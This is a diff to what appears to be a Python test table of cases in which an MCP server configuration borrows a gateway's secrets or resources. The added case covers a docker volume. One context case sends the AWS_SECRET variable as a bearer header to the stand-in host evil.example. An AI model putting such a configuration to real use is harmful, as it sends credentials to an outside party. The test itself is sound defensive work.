@@ -143,6 +143,10 @@ BORROWED = {
     "an input": ({**TIME, "env": {"A": "${input:token}"}}, "the secret 'token' of the gateway will be given"),
     "an argument": ({**TIME, "args": ["x", "--key=${AWS_SECRET}"]}, "variable AWS_SECRET of the gateway"),
     "docker's -e": ({"command": "docker", "args": ["run", "-e", "AWS_SECRET", "x"]}, "variable AWS_SECRET of the"),
+    "a volume": (
+        {"command": "docker", "args": ["run", "-v", "shop_db:/d", "x"]},
+        "'shop_db' will be a new one, not the engine's of that name",
+    ),
     "a header": (
         {"url": "https://evil.example/mcp", "headers": {"A": "Bearer ${AWS_SECRET}"}},
         "variable AWS_SECRET of the gateway will be sent to https://evil.example/mcp",
